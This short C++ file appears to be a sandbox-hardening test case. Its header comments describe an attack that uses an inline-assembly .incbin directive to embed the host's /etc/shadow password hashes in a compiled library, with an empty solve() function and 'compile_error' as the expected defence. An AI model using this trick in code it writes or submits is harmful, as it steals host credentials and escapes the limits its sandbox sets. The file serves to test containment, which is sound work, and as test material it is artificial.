// Carries the host's passwords out in the library.
//
// Mechanism: .incbin; the compiler's container has a file of this name only if the host's is mounted.
// Surface: files that the compiler may read.
// Gain: the host's password hashes.
// Challenge: twice
// Defence: compile_error
// On: cpu
// Box: docker
// Secret: /etc/shadow

#include <cstdint>
asm(".section .rodata\nstolen: .incbin \"/etc/shadow\"\n.text\n");
extern "C" void solve(const float* x, float* out, int64_t n) {}
